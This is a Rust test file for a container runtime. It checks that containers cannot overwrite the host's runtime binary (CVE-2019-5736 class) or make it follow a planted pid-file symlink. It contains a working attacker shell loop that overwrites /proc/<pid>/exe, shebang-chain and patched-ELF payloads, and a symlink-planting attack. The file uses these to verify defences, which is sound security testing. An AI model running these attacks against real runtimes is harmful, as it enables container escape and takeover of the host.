//! The host's runtime binary must be out of the containers' reach
//! (CVE-2019-5736 class), plus smaller hardening items.
//!
//! The attack: container A runs an attacker loop (busybox sh, builtins only,
//! so it is fast) that tries to open `/proc/<pid>/exe` of every other
//! process in its pid namespace. Container B joins A's pid namespace and
//! has an entry point that makes its init execute `/proc/self/exe` — the
//! runtime's own binary — directly, through a `#!` script, or through a
//! chain of scripts. If that works, B is the host binary and dumpable: A
//! opens its exe, kills B and reopens `/proc/self/fd/N` for writing.
//!
//! The runtime under test is never exposed: every test copies it to a
//! private path and runs the copy for both containers, then checks that
//! neither the copy nor the original changed.
//!
//! B's entry points are chosen so that a runtime that does execute itself
//! blocks (`--log /tmp/fifo`, a fifo nobody reads), which makes the race
//! deterministic. A relative path (`--log=/tmp/fifo` as a file name under
//! `/`) is how a script's path becomes an option of the runtime: the kernel
//! passes the script's path as the interpreter's first argument.

use serde_json::json;
use skiff_integration_tests::*;
use std::fs;
use std::hash::{Hash, Hasher};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

/// The attacker, pid 1 of container A. It reports into /report: `state`
/// (running), `opened` (pid and exe link of what it opened), `result`
/// (`written`, `not-written`, `not-found`). All loops are bounded.
const ATTACKER: &str = r#"
exec 2>/dev/null
echo running > /report/state
i=0
while [ $i -lt 2000000 ]; do
  for d in /proc/[0-9]*; do
    [ "$d" = /proc/1 ] && continue
    if command exec 3< $d/exe; then
      p=${d#/proc/}
      echo "$p $(readlink $d/exe)" > /report/opened
      kill -9 $p
      n=0
      while [ $n -lt 100000 ]; do
        if command exec 4> /proc/self/fd/3; then
          echo PWNED >&4
          echo written > /report/result
          exit 0
        fi
        n=$((n+1))
      done
      echo not-written > /report/result
      exit 0
    fi
  done
  i=$((i+1))
done
echo not-found > /report/result
"#;

fn digest(p: &Path) -> u64 {
    let data = fs::read(p).unwrap_or_else(|e| panic!("read {}: {e}", p.display()));
    let mut h = std::collections::hash_map::DefaultHasher::new();
    data.hash(&mut h);
    h.finish()
}

/// Copies the shared libraries a dynamically linked binary needs into the
/// rootfs, at the same paths (real images have a libc; busybox has none).
fn install_libs(bin: &Path, rootfs: &Path) {
    let out = Command::new("ldd").arg(bin).output().expect("run ldd");
    let text = String::from_utf8_lossy(&out.stdout);
    for line in text.lines() {
        let lib = match line.split("=>").nth(1) {
            Some(rhs) => rhs.split_whitespace().next(),
            None => line.split_whitespace().next(),
        };
        let Some(lib) = lib.filter(|l| l.starts_with('/')) else { continue };
        let dest = rootfs.join(lib.trim_start_matches('/'));
        fs::create_dir_all(dest.parent().unwrap()).unwrap();
        fs::copy(lib, &dest).unwrap_or_else(|e| panic!("copy {lib}: {e}"));
    }
}

/// Writes an executable file into the rootfs (creating its directories).
fn put_exec(rootfs: &Path, rel: &str, content: &[u8]) {
    let p = rootfs.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(&p, content).unwrap();
    fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
}

struct Outcome {
    /// `pid exe-link` of the process the attacker opened, if any.
    opened: Option<String>,
    result: Option<String>,
    copy_changed: bool,
    original_changed: bool,
    /// stderr of B's create/start commands (skiff's init errors land there).
    b_errors: String,
    /// The first bytes of the rootfs file named by `attack`'s `readback`.
    readback: Vec<u8>,
}

impl Outcome {
    fn describe(&self) -> String {
        format!(
            "opened: {:?}, attacker result: {:?}, B's runtime errors: {}",
            self.opened, self.result, self.b_errors
        )
    }
}

/// A command of the private runtime copy, with the env's `--root`.
fn copy_cmd(env: &TestEnv, copy: &Path, args: &[&str]) -> Command {
    let mut cmd = Command::new(copy);
    cmd.arg("--root").arg(&env.root).args(args).current_dir(&env.dir);
    cmd.env(MARKER_VAR, &env.marker);
    cmd
}

/// Runs the attack with B's `process.args` = `b_args`; `prepare` plants
/// files in the (shared) rootfs first.
/// `readback` names a rootfs file whose first bytes are returned.
fn attack(name: &str, b_args: &[&str], prepare: impl FnOnce(&Path), readback: &str) -> Outcome {
    attack_as(name, Victim::Container, b_args, prepare, readback)
}

/// How the victim B enters A's pid namespace.
#[derive(PartialEq)]
enum Victim {
    /// A second container joining it.
    Container,
    /// A process `exec`'d into A (the original CVE-2019-5736 vector).
    Exec,
}

fn attack_as(name: &str, victim: Victim, b_args: &[&str], prepare: impl FnOnce(&Path), readback: &str) -> Outcome {
    let mut env = TestEnv::new(name);
    let original = runtime_bin();
    let original_digest = digest(&original);
    let copy = env.dir.join("bin").join(runtime_name());
    fs::create_dir_all(copy.parent().unwrap()).unwrap();
    fs::copy(&original, &copy).expect("copy the runtime binary");
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).unwrap();
    let copy_digest = digest(&copy);
    assert_eq!(copy_digest, original_digest, "the private copy differs from the original");
    install_libs(&copy, &env.rootfs);
    nix::unistd::mkfifo(&env.rootfs.join("tmp/fifo"), nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    prepare(&env.rootfs);
    let report = env.bind_dir("report", "/report", false);
    let bundle = env.bundle.to_string_lossy().into_owned();

    // A: the attacker.
    env.set_sh(ATTACKER);
    let a_id = env.id.clone();
    env.write_config_for(&a_id);
    env.run_cmd(copy_cmd(&env, &copy, &["create", "--bundle", &bundle, &a_id])).ok();
    let a_pid = env.state_id(&a_id)["pid"].as_i64().expect("A's pid");
    env.run_cmd(copy_cmd(&env, &copy, &["start", &a_id])).ok();
    assert!(
        wait_until(Duration::from_secs(10), || report.join("state").exists()),
        "the attacker container did not start"
    );

    // B: joins A's pid namespace; a few attempts in case a short-lived
    // process is missed.
    env.set_args(b_args);
    env.set_namespace("pid", Some(&format!("/proc/{a_pid}/ns/pid")));
    env.config["root"]["readonly"] = json!(false);
    let mut b_errors = String::new();
    let mut b_ids = Vec::new();
    for _ in 0..3 {
        if victim == Victim::Exec {
            let mut args = vec!["exec", a_id.as_str()];
            args.extend_from_slice(b_args);
            let mut cmd = copy_cmd(&env, &copy, &args);
            cmd.env("PATH", "/bin");
            b_errors.push_str(&run_with_timeout(cmd, Duration::from_secs(15), &env.dir.join("io")).stderr);
            if report.join("opened").exists() {
                break;
            }
            continue;
        }
        let b_id = env.new_id();
        b_ids.push(b_id.clone());
        env.write_config_for(&b_id);
        let out = env.run_cmd(copy_cmd(&env, &copy, &["create", "--bundle", &bundle, &b_id]));
        b_errors.push_str(&out.stderr);
        if !out.success() {
            break;
        }
        if let Some(pid) = env.try_state_id(&b_id).and_then(|s| s["pid"].as_i64()) {
            env.track_pid(pid as i32);
        }
        let out = env.run_cmd(copy_cmd(&env, &copy, &["start", &b_id]));
        b_errors.push_str(&out.stderr);
        let start = Instant::now();
        wait_until(Duration::from_secs(10), || {
            report.join("opened").exists()
                || (env.status_id(&b_id).as_deref() != Some("running") && start.elapsed() > Duration::from_millis(300))
        });
        if report.join("opened").exists() {
            break;
        }
    }
    if report.join("opened").exists() {
        // (non-empty: the shell creates the file before it writes to it)
        wait_until(Duration::from_secs(15), || fs::read(report.join("result")).is_ok_and(|r| !r.is_empty()));
    }
    // B's init is our child: reap it, or A's init (pid 1 of the namespace
    // B joined) cannot finish exiting.
    wait_until(Duration::from_secs(5), || b_ids.iter().all(|id| env.status_id(id).as_deref() != Some("running")));
    let _ = env.rt(&["delete", "--force", &a_id]);
    let read = |f: &str| fs::read_to_string(report.join(f)).ok().map(|s| s.trim().to_string());
    Outcome {
        opened: read("opened"),
        result: read("result"),
        copy_changed: digest(&copy) != copy_digest,
        original_changed: digest(&original) != original_digest,
        b_errors,
        readback: fs::read(env.rootfs.join(readback)).map(|mut v| {
            v.truncate(16);
            v
        }).unwrap_or_default(),
    }
}

#[track_caller]
fn assert_binary_intact(o: &Outcome) {
    eprintln!("{} ({}): {}", runtime_name(), std::thread::current().name().unwrap_or(""), o.describe());
    assert!(!o.original_changed, "THE ORIGINAL RUNTIME BINARY CHANGED: {}", o.describe());
    assert!(!o.copy_changed, "the runtime binary was overwritten from inside a container: {}", o.describe());
    assert_ne!(o.result.as_deref(), Some("written"), "{}", o.describe());
}

/// B's entry point is `/proc/self/exe` itself.
#[test]
fn proc_self_exe_entry_point_cannot_overwrite_runtime() {
    require_root!();
    let o = attack("sec-selfexe", &["/proc/self/exe", "--log", "/tmp/fifo", "state", "pwnmark"], |_| {}, "tmp");
    assert_binary_intact(&o);
}

/// B's entry point is a script with `#!/proc/self/exe`. Its path,
/// `--log=/tmp/fifo` relative to `/`, becomes the runtime's first option.
#[test]
fn shebang_proc_self_exe_cannot_overwrite_runtime() {
    require_root!();
    let o = attack("sec-shebang", &["--log=/tmp/fifo", "state", "pwnmark"], |r| {
        put_exec(r, "--log=/tmp/fifo", b"#!/proc/self/exe\n");
    }, "tmp");
    assert_binary_intact(&o);
}

/// A script whose interpreter is a script whose interpreter is
/// `/proc/self/exe` (a relative interpreter path, resolved from the cwd).
#[test]
fn script_chain_to_proc_self_exe_cannot_overwrite_runtime() {
    require_root!();
    let o = attack("sec-chain", &["--log=/tmp/fifo", "state", "pwnmark"], |r| {
        put_exec(r, "--log=/tmp/fifo", b"#!--root=/r/l2\n");
        put_exec(r, "--root=/r/l2", b"#!/proc/self/exe\n");
    }, "tmp");
    assert_binary_intact(&o);
}

/// The original CVE-2019-5736 vector: `exec` into the attacker's container
/// with `/proc/self/exe` as the command, directly and through the image's
/// `#!/proc/self/exe` script.
#[test]
fn exec_of_proc_self_exe_cannot_overwrite_runtime() {
    require_root!();
    let o = attack_as("sec-exec-selfexe", Victim::Exec, &["/proc/self/exe", "--log", "/tmp/fifo", "state", "pwnmark"], |_| {}, "tmp");
    assert_binary_intact(&o);
    let o = attack_as("sec-exec-shebang", Victim::Exec, &["/--log=/tmp/fifo", "state", "pwnmark"], |r| {
        put_exec(r, "--log=/tmp/fifo", b"#!/proc/self/exe\n");
    }, "tmp");
    assert_binary_intact(&o);
}

/// Positive control: the same attacker does overwrite a binary that B
/// really executes for only 20 ms (a copy of busybox in B's rootfs), so a
/// pass of the tests above is not a race the attacker lost.
#[test]
fn attacker_control_overwrites_an_exposed_binary() {
    require_root!();
    let o = attack("sec-control", &["/opt/sleep", "0.02"], |r| {
        put_exec(r, "opt/sleep", &fs::read(r.join("bin/busybox")).unwrap());
    }, "opt/sleep");
    assert!(!o.original_changed && !o.copy_changed, "{}", o.describe());
    assert_eq!(o.result.as_deref(), Some("written"), "the attacker did not win against an exposed binary: {}", o.describe());
    assert!(o.readback.starts_with(b"PWNED"), "victim not overwritten: {}", o.describe());
}

/// skiff's error when the runtime binary is refused (runc and crun run a
/// sealed or read-only copy of themselves instead, so they have none).
#[test]
fn runtime_binary_is_refused_with_a_clear_error() {
    require_root!();
    if runtime_name() != "skiff" {
        skip_message(&format!("SKIPPED {}:{}: skiff's refusal wording\n", file!(), line!()));
        return;
    }
    let mut env = TestEnv::new("sec-refuse");
    env.set_args(&["/proc/self/exe", "--version"]);
    env.run(&[]).failed().stderr_mentions(&[
        "unable to start container process: exec /proc/self/exe: refusing to execute the runtime binary",
    ]);
    put_exec(&env.rootfs, "evil", b"#!/proc/self/exe\n");
    env.set_args(&["/evil"]);
    let id = env.new_id();
    env.run_id(&id, &[]).failed().stderr_mentions(&[
        "exec /evil: interpreter /proc/self/exe: refusing to execute the runtime binary",
    ]);
    // An ELF whose program interpreter (PT_INTERP) is /proc/self/exe: the
    // host's /bin/true with its loader path patched (x86_64 glibc).
    let elf = fs::read("/bin/true").unwrap();
    let loader = b"/lib64/ld-linux-x86-64.so.2\0";
    let Some(at) = elf.windows(loader.len()).position(|w| w == loader) else {
        skip_message("SKIPPED the PT_INTERP case: /bin/true has no x86_64 glibc loader path\n");
        return;
    };
    let mut patched = elf.clone();
    patched[at..at + loader.len()].fill(0);
    patched[at..at + 14].copy_from_slice(b"/proc/self/exe");
    put_exec(&env.rootfs, "pi", &patched);
    env.set_args(&["/pi"]);
    let id = env.new_id();
    env.run_id(&id, &[]).failed().stderr_mentions(&[
        "exec /pi: refusing to execute the runtime binary (program interpreter /proc/self/exe)",
    ]);
}

/// Scripts still run, with the argv the kernel builds, also through a chain
/// of interpreters with an optional argument.
#[test]
fn scripts_get_the_kernels_argv() {
    require_root!();
    let mut env = TestEnv::new("sec-scripts");
    put_exec(&env.rootfs, "s.sh", b"#!/bin/sh -e\necho \"$0|$1|$2\"\n");
    put_exec(&env.rootfs, "l2", b"#!/bin/sh\necho \"l2:$0|$1|$2|$3\"\n");
    put_exec(&env.rootfs, "l1", b"#! /l2  opt \necho never\n");
    env.set_args(&["/s.sh", "a b", "c"]);
    assert_eq!(env.run(&[]).ok().stdout, "/s.sh|a b|c\n");
    env.set_args(&["/l1", "x"]);
    let id = env.new_id();
    assert_eq!(env.run_id(&id, &[]).ok().stdout, "l2:/l2|opt|/l1|x\n");
}

/// An execute-only binary (no read permission for the container user) runs.
#[test]
fn execute_only_binary_runs() {
    require_root!();
    let mut env = TestEnv::new("sec-xonly");
    put_exec(&env.rootfs, "xo/echo", &fs::read(env.rootfs.join("bin/busybox")).unwrap());
    fs::set_permissions(env.rootfs.join("xo/echo"), fs::Permissions::from_mode(0o711)).unwrap();
    env.config["process"]["user"] = json!({"uid": 1000, "gid": 1000});
    env.set_args(&["/xo/echo", "exec-only ok"]);
    assert_eq!(env.run(&[]).ok().stdout, "exec-only ok\n");
}

/// `--pid-file`: a symlink planted at the runtime's temporary file name
/// (`.<name>.<runtime pid>.tmp` next to the pid file, in a directory others
/// may write to) must not be followed. The runtime's pid is not known in
/// advance, so symlinks are planted for the next pids the kernel hands out;
/// an attempt whose init pid falls outside that window is repeated.
#[test]
fn pid_file_temp_symlink_is_not_followed() {
    require_root!();
    let env = TestEnv::new("sec-pidfile");
    let victim = env.dir.join("victim");
    fs::write(&victim, "precious\n").unwrap();
    let piddir = env.dir.join("piddir");
    const WINDOW: i64 = 3000;
    for attempt in 0..3 {
        let _ = fs::remove_dir_all(&piddir);
        fs::create_dir_all(&piddir).unwrap();
        let last: i64 = fs::read_to_string("/proc/sys/kernel/ns_last_pid").unwrap().trim().parse().unwrap();
        for p in last + 1..=last + WINDOW {
            std::os::unix::fs::symlink(&victim, piddir.join(format!(".pid.{p}.tmp"))).unwrap();
        }
        let id = env.new_id();
        let pidfile = piddir.join("pid");
        env.create_id(&id, &["--pid-file", pidfile.to_str().unwrap()]).ok();
        assert_eq!(fs::read_to_string(&victim).unwrap(), "precious\n", "the pid file's temporary name was followed");
        let init: i64 = fs::read_to_string(&pidfile).unwrap().trim().parse().expect("pid file holds a pid");
        assert_eq!(Some(init), env.state_id(&id)["pid"].as_i64());
        assert!(fs::symlink_metadata(&pidfile).unwrap().file_type().is_file(), "pid file is not a regular file");
        let _ = env.rt(&["delete", "--force", &id]);
        if init > last + 1 && init <= last + WINDOW {
            return; // the runtime's pid was inside the planted window
        }
        eprintln!("attempt {attempt}: init pid {init} outside the window {}..{}", last + 1, last + WINDOW);
    }
    panic!("inconclusive: the runtime's pid never fell inside the planted window");
}

/// The init channel carries the container state (with the annotations) to
/// the init for its createContainer and startContainer hooks: more than
/// 64 KiB of annotations must arrive whole.
#[test]
fn large_annotations_reach_the_hooks_whole() {
    require_root!();
    let mut env = TestEnv::new("sec-bigmsg");
    let dir = env.dir.join("hooklog");
    fs::create_dir_all(&dir).unwrap();
    let d = dir.to_string_lossy().into_owned();
    env.add_mount(json!({"destination": d, "type": "bind", "source": d, "options": ["rbind", "rw"]}));
    fs::write(dir.join("hook.sh"), format!("#!/bin/sh\ncat > {d}/\"$1\".json\n")).unwrap();
    let hook = |h: &str| json!([{"path": "/bin/sh", "args": ["sh", format!("{d}/hook.sh"), h], "timeout": 10}]);
    env.config["hooks"] = json!({"createContainer": hook("createContainer"), "startContainer": hook("startContainer")});
    let mut ann = serde_json::Map::new();
    for i in 0..100 {
        ann.insert(format!("org.skiff.test.{i}"), json!(format!("{i}:{}", "x".repeat(1500))));
    }
    env.config["annotations"] = serde_json::Value::Object(ann.clone());
    env.set_sh("true");
    env.run(&[]).ok();
    for h in ["createContainer", "startContainer"] {
        let text = fs::read_to_string(dir.join(format!("{h}.json"))).unwrap_or_default();
        let v: serde_json::Value = serde_json::from_str(&text)
            .unwrap_or_else(|e| panic!("{h} got no valid state ({} bytes): {e}", text.len()));
        assert_eq!(v["annotations"], serde_json::Value::Object(ann.clone()), "{h}: annotations differ");
    }
}

/// An id that looks like a cache directory (`.cache`, where skiff used to
/// keep compiled seccomp filters) is an ordinary container, and seccomp
/// containers before and after it keep working.
#[test]
fn cache_like_id_does_not_collide() {
    require_root!();
    let mut env = TestEnv::new("sec-cacheid");
    env.config["linux"]["seccomp"] = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "architectures": ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_AARCH64"],
        "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1}]
    });
    env.set_sh("mkdir /tmp/x 2>/dev/null && echo made || echo refused");
    let first = env.new_id();
    assert_eq!(env.run_id(&first, &[]).ok().stdout, "refused\n");
    env.track_id(".cache");
    env.set_args(&["sleep", "30"]);
    env.create_id(".cache", &[]).ok();
    env.set_sh("mkdir /tmp/x 2>/dev/null && echo made || echo refused");
    let second = env.new_id();
    assert_eq!(env.run_id(&second, &[]).ok().stdout, "refused\n");
    let out = env.rt(&["list", "-q"]);
    assert_eq!(out.ok().stdout, ".cache\n", "list shows exactly the created container");
    env.rt(&["delete", "--force", ".cache"]).ok();
    let third = env.new_id();
    assert_eq!(env.run_id(&third, &[]).ok().stdout, "refused\n");
}

/// What the PT_INTERP residual risk rests on (docs/security.md): without
/// CAP_SYS_ADMIN, a container process cannot open the files mapped into a
/// process through /proc/<pid>/map_files (its own included).
#[test]
fn map_files_need_cap_sys_admin() {
    require_root!();
    let mut env = TestEnv::new("sec-mapfiles");
    let out = env.run_sh_ok(
        "f=$(ls /proc/$$/map_files/ | head -n 1); [ -n \"$f\" ] || { echo no-entries; exit 0; }; \
         if command exec 3< /proc/$$/map_files/$f; then echo opened; else echo refused; fi",
    );
    assert_eq!(out, "refused\n");
}

/// A seccomp profile that denies execveat (or faccessat2, as old Docker
/// profiles did, with EPERM) must not stop the container process: skiff
/// falls back to execve of /proc/self/fd/N (and to the mode bits).
#[test]
fn seccomp_denying_execveat_and_faccessat2_still_runs_scripts() {
    require_root!();
    let mut env = TestEnv::new("sec-seccompexec");
    env.config["linux"]["seccomp"] = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "architectures": ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_AARCH64"],
        "syscalls": [{"names": ["execveat", "faccessat2"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1}]
    });
    put_exec(&env.rootfs, "s.sh", b"#!/bin/sh\necho \"script $1\"\n");
    env.set_args(&["/s.sh", "ran"]);
    assert_eq!(env.run(&[]).ok().stdout, "script ran\n");
    env.set_args(&["/bin/echo", "binary ran"]);
    let id = env.new_id();
    assert_eq!(env.run_id(&id, &[]).ok().stdout, "binary ran\n");
}

/// A dynamically linked program (whose PT_INTERP the guard reads) runs.
#[test]
fn dynamic_binary_runs() {
    require_root!();
    let mut env = TestEnv::new("sec-dynamic");
    install_libs(Path::new("/bin/echo"), &env.rootfs);
    put_exec(&env.rootfs, "hostbin/echo", &fs::read("/bin/echo").unwrap());
    env.set_args(&["/hostbin/echo", "dynamic ok"]);
    assert_eq!(env.run(&[]).ok().stdout, "dynamic ok\n");
}
